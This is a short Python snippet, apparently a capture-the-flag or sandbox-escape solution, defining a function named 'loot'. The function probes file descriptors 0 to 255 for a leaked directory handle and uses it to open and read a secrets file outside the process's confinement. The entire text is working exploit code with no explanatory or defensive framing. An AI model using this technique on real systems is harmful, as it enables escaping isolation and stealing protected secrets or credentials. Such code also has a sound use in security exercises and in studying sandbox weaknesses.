# %%
from kit import *

# %%
def loot():
    for number in range(256):
        try:
            place = os.open("/" if number == 0 else ".", os.O_PATH, dir_fd=number or None)
            file = os.open(WORLD["secrets"].lstrip("/"), os.O_RDONLY, dir_fd=place)
        except OSError:
            continue
        return search(os.read(file, 1000))
    return None
